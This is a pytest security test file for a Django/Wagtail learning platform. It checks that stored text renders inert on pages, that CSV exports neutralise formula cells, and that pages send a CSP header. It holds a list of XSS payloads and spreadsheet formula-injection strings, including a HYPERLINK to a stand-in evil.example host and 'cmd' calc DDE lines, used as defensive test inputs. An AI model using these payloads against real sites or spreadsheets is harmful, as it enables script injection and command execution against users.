"""Hostile text entered through unit names, course titles, rich text and question text
renders inert on every page that shows it and in exports; a CSP header is sent."""

from __future__ import annotations

import csv
import io
from html import escape
from html.parser import HTMLParser

import pytest

from .conftest import client_for

BASE = [
    "<script>alert('{m}')</script>",
    "<img src=x onerror=alert('{m}')>",
    "<svg onload=alert('{m}')>",
    "<svg><script>alert('{m}')</script></svg>",
    "<a href=\"javascript:alert('{m}')\">x</a>",
    "<a href=\"JaVaScRiPt:alert('{m}')\">x</a>",
    "<a href=\"data:text/html,<script>alert('{m}')</script>\">x</a>",
    "<iframe src=\"javascript:alert('{m}')\"></iframe>",
    "<body onload=alert('{m}')>",
    "<div onmouseover=\"alert('{m}')\">x</div>",
    "\"><script>alert('{m}')</script>",
    "'><img src=x onerror=alert('{m}')>",
    "</title><script>alert('{m}')</script>",
    "</textarea><script>alert('{m}')</script>",
    "<math><mi xlink:href=\"javascript:alert('{m}')\">x</mi></math>",
    '<object data="data:text/html;base64,PHNjcmlwdD4=" name="{m}"></object>',
    "<embed src=\"javascript:alert('{m}')\">",
    "<input autofocus onfocus=alert('{m}')>",
    "<details open ontoggle=alert('{m}')>",
    "<style>@import 'javascript:alert(\"{m}\")';</style>",
    "<base href=\"javascript:alert('{m}')//\">",
    "<form action=\"javascript:alert('{m}')\"><button>x</button></form>",
    "<video><source onerror=\"alert('{m}')\"></video>",
    "<link rel=stylesheet href=\"javascript:alert('{m}')\">",
    "{{{{ '{m}' }}}}<script>alert('{m}')</script>",
    '=HYPERLINK("http://evil.example/?{m}","x")',
    "+cmd|' /C calc'!A0 {m}",
    "-2+3+cmd|' /C calc'!A0 {m}",
    "@SUM(1+1)*cmd|' /C calc'!A0 {m}",
    "\t=1+1 {m}",
]
# Fifty or more payloads: each base form, and each again inside Chinese text.
PAYLOADS = [p.format(m=f"XSS{n:02d}") for n, p in enumerate(BASE)] + [
    "检察" + p.format(m=f"XSS{n + 50:02d}") + "院" for n, p in enumerate(BASE)
]
assert len(PAYLOADS) >= 50

DANGEROUS_SCHEMES = ("javascript:", "data:text/html", "vbscript:")


class ActiveMarkup(HTMLParser):
    """Collects markup that would run: scripts, event handlers, script URLs —
    only those carrying one of our markers, so the platform's own JS is ignored."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "style"):
            # Data blocks (json_script) hold escaped JSON the browser never runs,
            # unless markup broke out of them.
            kind = dict(attrs).get("type") or ""
            self.in_script = "json" not in kind
        for name, value in attrs:
            value = value or ""
            if "XSS" not in value and "XSS" not in name:
                continue
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=…>")
            if value.strip().lower().startswith(DANGEROUS_SCHEMES):
                self.found.append(f"<{tag} {name}={value[:40]}>")
        if tag in ("iframe", "object", "embed", "base", "svg", "math") and any(
            "XSS" in (v or "") for _n, v in attrs
        ):
            self.found.append(f"<{tag}>")

    def handle_endtag(self, tag):
        if tag in ("script", "style"):
            self.in_script = False

    def handle_data(self, data):
        if self.in_script and "XSS" in data:
            self.found.append(f"script text {data[:40]!r}")


def active_markup(html: str) -> list[str]:
    parser = ActiveMarkup()
    parser.feed(html)
    return parser.found


def _sanitised_rich_text(html: str) -> str:
    """What the rich text editor stores for pasted HTML (Draftail's converter)."""
    from wagtail.admin.rich_text.converters.contentstate import ContentstateConverter
    from wagtail.rich_text import features

    converter = ContentstateConverter(features.get_default_features())
    try:
        return converter.to_database_format(converter.from_database_format(html))
    except AssertionError:
        # The converter refuses some malformed markup outright; the editor then
        # keeps nothing of it. Store the text as typed instead.
        return f"<p>{escape(html)}</p>"


@pytest.fixture
def hostile(world):
    """Payloads in unit names, a course title, lesson rich text and question text."""
    import json

    from assessments.models import Question
    from assessments.services import attempt_start
    from organisation.models import Unit
    from tests.assessments.factories import make_question, make_quiz
    from tests.learning.helpers import catalogue, make_course

    units = list(Unit.objects.exclude(code="P").order_by("code"))
    for unit, payload in zip(units, PAYLOADS, strict=False):
        unit.name = payload[:100]
        unit.save(update_fields=["name"])
    body = [
        {"type": "paragraph", "value": _sanitised_rich_text(p)} for p in PAYLOADS[:30]
    ]
    course = make_course(
        catalogue(world["course"].get_parent().get_parent()),
        code="XSS-101",
        title=PAYLOADS[0][:200],
        lessons=1,
    )
    lesson = course.get_children().first().specific
    lesson.body = json.dumps(body, ensure_ascii=False)
    lesson.save_revision().publish()
    questions = [
        make_question(f"XSS-Q{n:02d}", type="true_false", text=p, correct_bool=True)
        for n, p in enumerate(PAYLOADS[:10])
    ]
    quiz = make_quiz("xss-quiz", questions, title=PAYLOADS[1][:200])
    attempt = attempt_start(user=world["users"]["learner"], quiz=quiz)
    assert Question.objects.filter(code__startswith="XSS-").count() == 10
    return {"course": course, "lesson": lesson, "quiz": quiz, "attempt": attempt}


@pytest.mark.django_db
def test_hostile_text_renders_inert_on_every_page(world, hostile):
    code = world["campaign"].code
    pages = {
        "learner": [
            "/learning/",
            hostile["course"].url,
            hostile["lesson"].url,
            f"/quizzes/{hostile['quiz'].slug}/",
            f"/quizzes/attempts/{hostile['attempt'].pk}/",
            f"/quizzes/attempts/{hostile['attempt'].pk}/summary/",
            "/search/?q=XSS",
        ],
        "leadership": [
            "/reports/",
            f"/reports/campaigns/{code}/units/P/",
            f"/reports/campaigns/{code}/units/C1/",
            "/reports/matrix/C1/",
            "/insights/",
        ],
    }
    found = {}
    for role, urls in pages.items():
        client = client_for(world, role)
        for url in urls:
            response = client.get(url)
            assert response.status_code == 200, url
            bad = active_markup(response.content.decode())
            if bad:
                found[url] = bad
    assert not found


@pytest.mark.django_db
def test_exports_neutralise_formula_cells(world, hostile):
    from organisation.models import StaffProfile

    formulas = [p for p in PAYLOADS if p.lstrip("\t")[:1] in "=+-@"]
    people = list(StaffProfile.objects.order_by("pk")[: len(formulas)])
    for person, payload in zip(people, formulas, strict=False):
        person.name = payload[:60]
        person.position = payload[:60]
        person.save(update_fields=["name", "position"])
    client = client_for(world, "leadership")
    code = world["campaign"].code
    response = client.get(f"/reports/campaigns/{code}/units/P/people.csv?show=all")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert any("XSS" in c for c in cells)
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t")]
    assert not dangerous


@pytest.mark.django_db
def test_every_page_sends_a_content_security_policy(world):
    client = client_for(world, "learner")
    for url in ("/", "/learning/", "/accounts/login/", "/quizzes/"):
        policy = client.get(url).headers.get("Content-Security-Policy", "")
        assert "default-src 'self'" in policy, url
        assert "object-src 'none'" in policy
        assert "frame-ancestors" in policy
